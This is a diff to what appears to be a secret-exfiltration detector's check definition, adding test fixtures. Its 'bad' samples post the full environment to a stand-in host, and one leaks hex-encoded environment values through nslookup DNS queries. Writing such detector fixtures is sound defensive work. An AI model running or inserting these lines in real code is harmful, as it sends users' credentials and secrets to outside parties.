@@ -56,6 +56,9 @@ CHECK = Check(
     fix="Remove the call, and change every secret that was set where it ran.",
     bad=(
         Bad(
+            "import os, requests\nrequests.post('https://c.example.invalid', json=dict(env=dict(os.environ)))  # finding\n"
+        ),
+        Bad(
             "import binascii, os, subprocess\nfor name, value in os.environ.items():\n    text = binascii.hexlify(value.encode()).decode()\n    subprocess.call(['nslookup', text[:60] + '.e.example.invalid'])  # finding\n"
         ),
         Bad(
@@ -82,6 +85,9 @@ CHECK = Check(
         ),
     ),
     good=(
+        Good(
+            "import os, urllib.request\nfrom store import download\n\ndef date(name):\n    wheel = download(name, env=os.environ)\n    return urllib.request.urlopen(f'https://index.example.invalid/{wheel.name}/json')\n"
+        ),
         Good(
             "import os, subprocess\nsubprocess.run(['curl', '-H', f\"Authorization: Bearer {os.environ['GITHUB_TOKEN']}\", 'https://api.example.invalid/x'], check=True)\n"
         ),
